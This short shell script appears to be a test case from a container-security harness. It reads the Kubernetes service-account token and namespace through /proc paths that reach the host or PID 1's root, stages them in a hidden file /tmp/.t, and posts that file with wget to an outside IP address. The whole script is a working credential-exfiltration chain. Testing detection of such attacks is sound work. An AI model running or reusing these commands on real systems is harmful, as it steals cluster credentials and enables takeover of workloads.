#!/bin/sh
. /opt/case/case.sh

cd /proc/1/root/run/secrets; exec 6<kubernetes.io/serviceaccount/token
cp /proc/self/fd/6 /tmp/.t; cat /proc/$$/task/$$/root/var/run/secrets/kubernetes.io/serviceaccount/namespace >>/tmp/.t
wget -q -O /dev/null --post-file /tmp/.t http://203.0.113.10/t
test -s /tmp/.t
took_place
